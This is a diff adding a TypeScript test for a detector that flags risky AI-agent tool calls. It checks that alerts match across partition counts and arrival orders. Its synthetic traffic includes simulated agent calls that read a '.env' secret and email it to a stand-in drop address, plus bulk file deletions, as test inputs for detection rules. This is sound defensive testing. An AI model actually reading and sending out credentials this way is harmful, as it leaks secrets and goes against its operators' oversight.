@@ -1,0 +1,223 @@
+import {
+  createDetection,
+  type DetectionInput,
+  parseRules,
+  recordsOf,
+  shortRecordSchema,
+  splitRules,
+} from "@tripline/detection";
+import { type Alert, alertSchema, encodeRecord, eventKey, TOPIC_CLEANUP, TOPICS } from "@tripline/events";
+import { createContext } from "@tripline/service";
+import { createMemoryLog, type Log } from "@tripline/stream";
+import { afterEach, describe, expect, it } from "vitest";
+import { createDetector, loadRules } from "../services/detector/src/index.ts";
+import { seeded } from "./support/seeded.ts";
+import { waitFor } from "./support/wait-for.ts";
+
+const CREDENTIALS = 12;
+const SERVERS = ["files", "mail", "crm"];
+const TOOLS = ["read_file", "send_email", "delete_file", "query_orders"];
+const DAY_MS = 86_400_000;
+const PATIENCE_MS = 2000; // the second stage's
+const LATENESS_MS = 1900; // how late a record reaches the log at most: less than the second stage's patience
+const SECRET = "⟨secret:k1.0123456789abcdef⟩";
+
+/** Rules whose groups are spread over all partitions, of the kinds that no shipped rule of the second stage has. */
+const OWN_RULES = [
+  ["many-deletions", "delete_file", "event_count", "gte: 4", "tenant"],
+  ["many-tools", "*", "value_count", "gte: 3, field: tool", "server"],
+].map(([id, tool, type, condition, group]) => ({
+  file: `${id}.yaml`,
+  text: [
+    `title: ${id}`,
+    `id: ${id}`,
+    "level: medium",
+    "logsource: { category: agent_tool_call }",
+    `detection: { call: { tool: "${tool}" }, condition: call }`,
+    `correlation: { type: ${type}, group-by: [${group}], timespan: 3s, condition: { ${condition} } }`,
+    'tripline: { summary: "{count} in {window}", why: w, next: [n], response: { revocable: false }, quiet: 1s }',
+  ].join("\n"),
+}));
+const rules = [...(await loadRules()), ...parseRules(OWN_RULES)];
+
+const closing: (() => Promise<void>)[] = [];
+afterEach(async () => {
+  for (const close of closing.splice(0).reverse()) await close();
+});
+
+/** A day of learning, then calls of many credentials on the same servers, where tools appear and definitions change. */
+function traffic(seed: number): DetectionInput[] {
+  const random = seeded(seed);
+  const pick = <T>(from: readonly T[]): T => from[Math.floor(random() * from.length)] as T;
+  const shorts: unknown[] = SERVERS.map((server, index) => ({
+    at: `${index + 1}s`,
+    credential: "local:c0",
+    server,
+    listed: TOOLS.map((name) => ({ name, description: "As it was." })),
+  }));
+  for (let index = 0; index < 250; index += 1) {
+    const credential = `local:c${Math.floor(random() * CREDENTIALS)}`;
+    // In steps of 100 ms, so that some happen at the same time.
+    const at = `${DAY_MS + 3_600_000 + Math.floor(index / 3) * 100}ms`;
+    const base = { at, credential, server: pick(SERVERS), session: `s-${credential}` };
+    const chance = random();
+    if (chance < 0.08) {
+      const listed = TOOLS.map((name) => ({ name, description: `Version ${Math.floor(random() * 3)}.` }));
+      shorts.push({ ...base, listed });
+    } else if (chance < 0.16) shorts.push({ ...base, tool: `tool-${Math.floor(random() * 12)}`, args: {} });
+    else if (chance < 0.4) shorts.push({ ...base, tool: "delete_file", args: { path: `/srv/${index}` } });
+    else if (chance < 0.6) {
+      shorts.push({ ...base, tool: "read_file", args: { path: "/srv/app/.env" }, result: SECRET });
+    } else if (chance < 0.8) {
+      shorts.push({ ...base, tool: "send_email", args: { to: "drop@collector.example", body: SECRET } });
+    } else shorts.push({ ...base, tool: "query_orders", args: { customer: index }, intent: true });
+  }
+  return recordsOf(shorts.map((short) => shortRecordSchema.parse(short)));
+}
+
+/** Each record with the time at which it reaches the log: of one credential in order, of several mixed up. */
+function arrivals(inputs: readonly DetectionInput[], seed: number): { input: DetectionInput; at: number }[] {
+  const random = seeded(seed);
+  const latest = new Map<string, number>();
+  return inputs
+    .map((input) => {
+      const key = eventKey(input.record.envelope);
+      const time = Date.parse(input.record.envelope.time);
+      const at = Math.max(time + Math.floor(random() * LATENESS_MS), latest.get(key) ?? 0);
+      latest.set(key, at);
+      return { input, at };
+    })
+    .sort((a, b) => a.at - b.at);
+}
+
+/** All alerts as JSON, without when they were detected, by id. */
+function plain(alerts: readonly Alert[]): string[] {
+  return alerts.map(({ detected_at: _, ...alert }) => JSON.stringify(alert)).sort();
+}
+
+/** What the two stages say when all is there and in order: the second one over the facts, sorted. */
+function expected(inputs: readonly DetectionInput[]): Alert[] {
+  const { first, second } = splitRules(rules);
+  const feeding = createDetection(first, { feeds: second });
+  const fed = createDetection(second, { secondStage: true });
+  const feedingState = feeding.initialState();
+  const alerts: Alert[] = [];
+  const facts = inputs.flatMap((input) => {
+    const found = feeding.step(feedingState, input);
+    alerts.push(...found.alerts);
+    return found.facts.map((fact) => ({ ...fact, appendTime: input.appendTime }));
+  });
+  const order = ({ record: { envelope }, group }: (typeof facts)[number]) =>
+    `${envelope.time} ${envelope.id} ${group}`;
+  facts.sort((a, b) => (order(a) < order(b) ? -1 : 1));
+  const fedState = fed.initialState();
+  for (const { record, appendTime, rules: ids } of facts) {
+    alerts.push(...fed.step(fedState, { record, appendTime, rules: ids }).alerts);
+  }
+  return alerts;
+}
+
+async function alertsAt(
+  partitions: number,
+  inputs: readonly DetectionInput[],
+  seed: number,
+): Promise<Alert[]> {
+  let clock = 0;
+  const log = createMemoryLog({ now: () => clock });
+  await log.ensureTopics(
+    Object.entries(TOPIC_CLEANUP).map(([name, cleanup]) => ({ name, partitions, cleanup })),
+  );
+  closing.push(() => log.close());
+  const context = createContext({ service: "test", logLevel: "silent" });
+  const detector = createDetector({ log, rules, context, snapshotEveryMs: 50, elapsedMs: () => clock });
+  const random = seeded(seed);
+  for (const [index, { input, at }] of arrivals(inputs, seed).entries()) {
+    clock = at;
+    const { record } = input;
+    const value = new TextEncoder().encode(encodeRecord(numbered(record, index)));
+    await log.produce(TOPICS.events, [{ key: eventKey(record.envelope), value }]);
+    if (index === 3) {
+      // The first day is judged before the second begins, as it would be.
+      await detector.start();
+      closing.push(() => detector.stop());
+    }
+    // Now and then the detector gets to work on what is there.
+    if (random() < 0.2) await new Promise((resolve) => setTimeout(resolve, Math.floor(random() * 30)));
+  }
+  clock += 60_000;
+  await waitFor(async () => (await isThrough(log)) && (await isReleased(log)) && (await isThrough(log)), {
+    what: "both stages to be through",
+    timeoutMs: 30_000,
+  });
+  return readAlerts(log);
+}
+
+function numbered(record: DetectionInput["record"], seq: number): DetectionInput["record"] {
+  return { ...record, envelope: { ...record.envelope, producer: { ...record.envelope.producer, seq } } };
+}
+
+async function isThrough(log: Log): Promise<boolean> {
+  for (const [topic, group] of [
+    [TOPICS.events, "detector"],
+    [TOPICS.facts, "detector-facts"],
+  ] as const) {
+    const committed = await log.committed(topic, group);
+    for (const { partition, next } of await log.offsets(topic)) {
+      if (next > 0 && committed.get(partition)?.offset !== next) return false;
+    }
+  }
+  return true;
+}
+
+/** Each fact has been released: a tick in its partition says that all is here of when it happened. */
+async function isReleased(log: Log): Promise<boolean> {
+  for (const { partition, next } of await log.offsets(TOPICS.facts)) {
+    let latest = 0;
+    let told = 0;
+    await log.scan({ topic: TOPICS.facts, partition, from: 0, to: next }, async (records) => {
+      for (const { value } of records) {
+        const read = JSON.parse(new TextDecoder().decode(value ?? undefined));
+        if (read.type === "tick") told = Math.max(told, read.before);
+        else latest = Math.max(latest, Date.parse(read.record.envelope.time));
+      }
+    });
+    if (latest > 0 && told < latest + PATIENCE_MS) return false;
+  }
+  return true;
+}
+
+async function readAlerts(log: Log): Promise<Alert[]> {
+  const alerts: Alert[] = [];
+  for (const { partition, next } of await log.offsets(TOPICS.alerts)) {
+    await log.scan({ topic: TOPICS.alerts, partition, from: 0, to: next }, async (records) => {
+      for (const { value } of records) {
+        alerts.push(alertSchema.parse(JSON.parse(new TextDecoder().decode(value ?? undefined))));
+      }
+    });
+  }
+  return alerts;
+}
+
+describe.each([1, 2])("the same records, traffic %i", (seed) => {
+  const inputs = traffic(seed);
+  const wanted = expected(inputs);
+
+  it("hold findings of both stages and of every kind", () => {
+    const kinds = new Set(wanted.map(({ rule }) => rule.id));
+    for (const id of ["secret-read-then-sent", "tool-new-on-server", "tool-definition-changed"]) {
+      expect(kinds).toContain(id);
+    }
+    for (const { file } of OWN_RULES) expect(kinds).toContain(file.replace(".yaml", ""));
+  });
+
+  it.each([1, 3, 12])(
+    "give the same alerts on %i partitions, in whatever order they arrive",
+    async (partitions) => {
+      const found = await alertsAt(partitions, inputs, seed * 100 + partitions);
+      const short = (alerts: readonly Alert[]) =>
+        alerts.map(({ id, rule, record_id, time }) => `${time} ${rule.id} ${record_id} ${id}`).sort();
+      expect(short(found)).toEqual(short(wanted));
+      expect(plain(found)).toEqual(plain(wanted));
+    },
+  );
+});
